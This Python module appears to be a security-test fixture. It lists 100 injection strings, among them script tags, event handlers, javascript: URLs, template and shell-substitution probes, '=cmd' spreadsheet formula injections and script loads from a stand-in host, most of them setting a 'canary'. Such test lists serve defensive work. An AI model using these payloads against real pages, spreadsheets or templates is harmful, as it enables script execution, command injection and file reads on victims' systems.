"""A hundred strings that would run, redirect, format or reorder something on a page or in a sheet that took them for more than text.

Each tries to set `canary`, so that a page on which one of them ran says so.
"""

from __future__ import annotations

TAGS = [
    "<script>window.canary=1</script>",
    '"><img src=x onerror="window.canary=1">',
    "<svg onload=window.canary=1><math><mtext></svg>",
    "</style></title></textarea><script>canary=1</script>",
    "<ScRiPt >window.canary=1</sCrIpT >",
    "<script/x>window.canary=1</script\t\n bar>",
    "<<script>window.canary=1;//<</script>",
    "<script src=https://example.invalid/x.js></script>",
    "</script><script>window.canary=1</script>",
    "</main></body></html><script>canary=1</script>",
    "<noscript><p title='</noscript><img src=x onerror=canary=1>'>",
    "<template><script>canary=1</script></template>",
    "<base href=https://example.invalid/><a href=x>here</a>",
    '<meta http-equiv="refresh" content="0;url=https://example.invalid/">',
    "<link rel=stylesheet href=https://example.invalid/x.css>",
    "<style>*{background:url(https://example.invalid/x)}</style>",
    "<style>@import 'https://example.invalid/x.css';</style>",
    "<iframe srcdoc='<script>parent.canary=1</script>'></iframe>",
    "<object data=data:text/html,<script>canary=1</script>></object>",
    "<embed src=javascript:window.canary=1>",
    '<form action="javascript:canary=1"><button>go</button></form>',
    "<plaintext>",
    "<xmp><script>canary=1</script></xmp>",
    "<!--<script>--><script>canary=1</script>",
    "-->--!><!--",
    "]]><![CDATA[",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'x'>]><x>&e;</x>",
    "<table><td><script>canary=1</script>",
    "<dialog open><script>canary=1</script></dialog>",
    "<slot name=x><custom-element onconnected=canary=1>",
]
HANDLERS = [
    "' onmouseover='window.canary=1' x='",
    '" onfocus="window.canary=1" autofocus="',
    "` onclick=`window.canary=1`",
    "x onerror=window.canary=1 src=",
    "<body onload=window.canary=1>",
    "<details open ontoggle=window.canary=1>",
    "<input autofocus onfocus=window.canary=1>",
    "<video><source onerror=window.canary=1></video>",
    "<audio src=x onerror=window.canary=1>",
    "<marquee onstart=window.canary=1>",
    "<div style=animation-name:x onanimationstart=window.canary=1>",
    "<button popovertarget=x onbeforetoggle=window.canary=1>x</button>",
]
ADDRESSES = [
    "javascript:window.canary=1",
    "JaVaScRiPt&colon;window.canary=1",
    "java\tscript:window.canary=1",
    "<a href='javascript:window.canary=1'>click</a>",
    '<a href="data:text/html,<script>opener.canary=1</script>">click</a>',
    "data:text/html;base64,PHNjcmlwdD5jYW5hcnk9MTwvc2NyaXB0Pg==",
    "vbscript:canary=1",
    "//example.invalid/canary.js",
    "[click](javascript:window.canary=1)",
    "![x](https://example.invalid/x.png)",
]
DRAWINGS = [
    "<svg><script>window.canary=1</script></svg>",
    "<svg><script href=data:,canary=1 /></svg>",
    "<svg><animate onbegin=window.canary=1 attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:canary=1'><text y=9>x</text></a></svg>",
    "<svg><foreignObject><img src=x onerror=canary=1></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=canary=1>#x'></use></svg>",
    "<math><mi href='javascript:canary=1'>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=canary=1>",
    "<math><annotation-xml encoding='text/html'><script>canary=1</script></annotation-xml></math>",
    "</svg></figure><img src=x onerror=canary=1>",
]
TEMPLATES = [
    "{{ 7*7 }} {% raw %} ${7*7} %s {0} <%= 7 %>",
    "{{7*7}}",
    "{{ ''.__class__.__mro__ }}",
    "{% for x in range(9) %}x{% endfor %}",
    "{% include '/etc/hostname' %}",
    "{# a comment #}",
    "${7*7} #{7*7} @{7*7} *{7*7}",
    "%s %d %n %(name)s %%",
    "{0.__class__} {name!r:>10} {}",
    "$(touch canary) `touch canary` ; touch canary",
    "<%= 7*7 %> <? echo 7 ?> [[7*7]]",
    "\\N{SNOWMAN} \\x41 \\u0041 \\0",
]
MARKS = [
    "# not a heading **bold** [link](javascript:canary=1) `code`",
    "```html\n<script>canary=1</script>\n```",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "<https://example.invalid> www.example.invalid a_b_c *x*",
    "$\\frac{1}{0}$ \\undefined{x} $$",
    "\\input{/etc/hostname} \\write18{touch canary} ^_~&%#",
    "\\(\\href{javascript:canary=1}{x}\\) \\[ \\unicode{x41} \\]",
    "---\ntitle: not front matter\n...",
]
ENTITIES = [
    "&lt;script&gt; &amp;nbsp; &#x3C;b&#x3E;",
    "&#60;script&#62;canary=1&#60;/script&#62;",
    "&#x3c;img src=x onerror=canary=1&#x3e",
    "%3Cscript%3Ecanary=1%3C/script%3E \\u003cscript\\u003e",
    "+ADw-script+AD4-canary=1+ADw-/script+AD4-",
    "&amp;amp;amp; &notin; &copy &#0; &#x110000;",
]
CHARACTERS = [
    "\u202ereversed\u202c \u2066isolated\u2069",
    "\u200fright to left\u200e \u061cmark",
    "\x00\x07\x1b[31mcontrol\x7f",
    "\x1b]0;title\x07 \x9b31m \x85",
    "\u2028line\u2029paragraph\ufeff",
    "zero\u200bwidth\u200djoined\u00adsoft",
]
FORMULAS = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "+1-1",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.invalid/","click")',
    '\t=WEBSERVICE("https://example.invalid/")',
]
HOSTILE = [*TAGS, *HANDLERS, *ADDRESSES, *DRAWINGS, *TEMPLATES, *MARKS, *ENTITIES, *CHARACTERS, *FORMULAS]
